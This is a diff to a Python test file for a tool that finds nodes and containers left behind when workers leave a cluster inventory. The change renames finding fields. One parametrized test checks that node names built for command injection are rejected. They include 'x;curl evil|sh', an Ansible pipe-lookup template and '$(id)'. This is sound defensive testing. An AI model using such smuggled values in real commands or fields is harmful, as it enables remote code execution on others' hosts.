@@ -70,7 +70,7 @@ def test_worker_that_left_the_inventory() -> None:
 def refusals(leaving: Departure, **silent: str) -> list[tuple[str, str]]:
     found = departure_findings(leaving, ["ray-head"], [*INVENTORY, "worker-8"], silent, "gpu_0")
     assert all(finding.severity == ERROR for finding in found)
-    return [(finding.what, finding.todo) for finding in found]
+    return [(finding.problem, finding.remedy) for finding in found]
 
 
 def test_what_cannot_be_taken_out() -> None:
@@ -99,18 +99,18 @@ def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
     assert (found.where, found.severity) == ("worker-8", WARNING)
     # Of a container with this name only if it is the cluster's: jobs name the nodes that they start.
     listed = "ps -aq --filter label=argus.verl.cluster=mvp --filter name=^worker-8$"
-    assert found.todo == f"on its machine: docker rm -fv $(docker {listed})"
+    assert found.remedy == f"on its machine: docker rm -fv $(docker {listed})"
     podman = {name: replace(there, engine=replace(there.engine, name="podman")) for name, there in MACHINES.items()}
-    assert "podman rm " in left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].todo
+    assert "podman rm " in left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].remedy
     (found,) = left_behind(nodes[1:3], planned(PROCESSES).values(), "mvp", INVENTORY)
-    assert (found.where, found.todo) == ("worker-8", "on its host: pkill -f 'node .*/mvp/nodes/worker-8$'")
+    assert (found.where, found.remedy) == ("worker-8", "on its host: pkill -f 'node .*/mvp/nodes/worker-8$'")
 
 
 @pytest.mark.parametrize("name", ["x;curl evil|sh", "{{lookup('pipe','id')}}", "a b", "-x", "a\nb", "$(id)", ""])
 def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str) -> None:
     for machines in (MACHINES, PROCESSES):
         (found,) = left_behind([ray_node(name)], planned(machines).values(), "mvp", INVENTORY)
-        assert found.todo == ODD_NAME
+        assert found.remedy == ODD_NAME
         assert "\n" not in found.where
     assert outside_notes(["worker-0"], INVENTORY) == []
     assert outside_notes(["x", "y"], INVENTORY)[0].startswith("x, y are")
@@ -124,10 +124,10 @@ def test_containers_of_another_cluster_stay() -> None:
     machine = replace(HEALTHY, containers={"worker-0": container(), "worker-9": container()})
     (found,) = left_behind([], planned({"gpu-0": replace(machine, cluster="mpv")}).values(), "mpv", INVENTORY)
     assert (found.where, found.severity) == ("worker-0", WARNING)
-    assert found.todo == "if this is its inventory, set cluster_name: mvp"
+    assert found.remedy == "if this is its inventory, set cluster_name: mvp"
     bare = replace(machine, containers={"worker-0": replace(container(), labels={})})
     (found,) = left_behind([], planned({"gpu-0": bare}).values(), "mvp", INVENTORY)
-    assert (found.where, found.todo) == ("worker-0", "")
+    assert (found.where, found.remedy) == ("worker-0", "")
 
 
 # worker-9 has left the inventory, and its files are still on the host of worker-0.
